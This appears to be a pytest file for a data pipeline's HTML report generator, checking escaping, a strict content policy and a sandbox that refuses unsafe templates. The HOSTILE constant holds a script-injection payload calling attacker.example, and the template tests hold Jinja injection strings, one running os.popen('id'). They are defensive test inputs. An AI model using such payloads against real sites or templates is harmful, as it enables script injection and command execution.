"""Data Docs: a page that tells every rule and where it is not met, and asks for nothing from outside of itself."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from lxml import html

from pipeline.errors import AllianceError
from pipeline.settings import PROJECT
from pipeline.validate import data_docs
from pipeline.validate.data_docs import MOST_ROWS, write_data_docs
from pipeline.validate.rule_book import all_rules
from tests.pipeline.validate.validate_samples import rows_of_assessment

TEMPLATES = PROJECT / "report_templates"
HOSTILE = "<script>fetch('https://attacker.example')</script>$name"


def page(assessment: pd.DataFrame, *, demonstration: bool = False) -> bytes:
    return write_data_docs(assessment, "Cycle 2014", TEMPLATES, demonstration=demonstration)


def words(content: bytes) -> str:
    return " ".join(html.fromstring(content).text_content().split())


@pytest.fixture(scope="module")
def silent() -> bytes:
    """Two members, of whom one left a required question empty in one row."""
    return page(rows_of_assessment([("ALB", "", "unit", False), ("FRA", "", "unit", True)]))


def test_every_rule_stands_there_with_its_published_text(silent: bytes) -> None:
    said = words(silent)
    for rule in all_rules():
        assert rule.name in said
        assert rule.summary.replace("``", "") in said


def test_a_rule_that_is_not_met_names_members_and_rows(silent: bytes) -> None:
    (section,) = [
        part
        for part in html.fromstring(silent).xpath("//main/div[contains(@class, 'ge-section')]")
        if part.xpath(".//h2[normalize-space() = 'required_answer']")
    ]
    said = " ".join(section.text_content().split())
    assert "Members concerned: ALB 1" in said
    assert "1 unexpected values found." in said
    assert "FRA" not in said
    assert section.xpath(".//i[contains(@class, 'fa-times')]"), "the mark of a rule that is not met"


def test_the_page_refers_to_nothing_outside_of_itself(silent: bytes) -> None:
    root = html.fromstring(silent)
    assert not root.xpath("//script | //link | //img | //iframe | //object | //embed | //form")
    targets = root.xpath("//@href | //@src | //@action | //@data | //@srcset | //@style")
    assert targets
    assert all(target.startswith("#section-") for target in targets)
    assert not re.search(rb"url\(|@import|https?://", silent)
    (policy,) = root.xpath("//meta[@http-equiv = 'Content-Security-Policy']/@content")
    assert policy == "default-src 'none'; style-src 'unsafe-inline'"


def test_what_members_wrote_is_not_on_the_page_and_keys_of_rows_are_no_mark_up() -> None:
    assessment = rows_of_assessment([("ALB", HOSTILE, "unit", False)]).assign(comment=HOSTILE, raw=None)
    content = page(assessment)
    assert b"<script" not in content
    assert HOSTILE in words(content), "the key of the row, as text"
    answered = rows_of_assessment([("ALB", "", "unit", True)]).assign(raw="our secret plan", value="our secret plan")
    assert b"our secret plan" not in page(answered)


def test_of_many_rows_the_first_are_listed_and_all_are_counted() -> None:
    many = rows_of_assessment([("ALB", f"R-{n}", "unit", False) for n in range(5_000)])
    content = page(many)
    assert f"Rows not met, {MOST_ROWS} of 5000" in words(content)
    assert "Members concerned: ALB 5000" in words(content)
    assert len(content) < 200_000


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "unsafe"),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "unsafe"),
        ("{% if %}", "data_docs.html.j2"),
    ],
)
def test_a_template_that_reaches_for_the_program_is_refused_by_its_name(tmp_path: Path, code: str, said: str) -> None:
    """Templates come with the package of another secretariat."""
    (tmp_path / "data_docs").mkdir()
    (tmp_path / "data_docs" / "data_docs.html.j2").write_text(code, encoding="utf-8")
    with pytest.raises(AllianceError, match=r"data_docs/data_docs\.html\.j2") as caught:
        write_data_docs(rows_of_assessment([]), "Cycle 2014", tmp_path, demonstration=False)
    assert said in str(caught.value)


def test_a_demonstration_says_so_and_nothing_else_does() -> None:
    assessment = rows_of_assessment([("ALB", "", "unit", True)])
    assert "all answers are made up" in words(page(assessment, demonstration=True))
    assert "all answers are made up" not in words(page(assessment))


def test_the_same_assessment_gives_the_same_bytes() -> None:
    assessment = rows_of_assessment([("ALB", "", "unit", False)])
    assert page(assessment) == page(assessment)


def test_a_cycle_without_answers_has_a_page_too() -> None:
    assert "required_answer" in words(page(rows_of_assessment([])))


def test_words_with_a_dollar_sign_are_shown_as_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
    dear = replace(all_rules()[0], description="It costs $5 or more.")
    monkeypatch.setattr(data_docs, "all_rules", lambda: [dear, *all_rules()[1:]])
    assert "It costs $5 or more." in words(page(rows_of_assessment([("ALB", "", "unit", True)])))
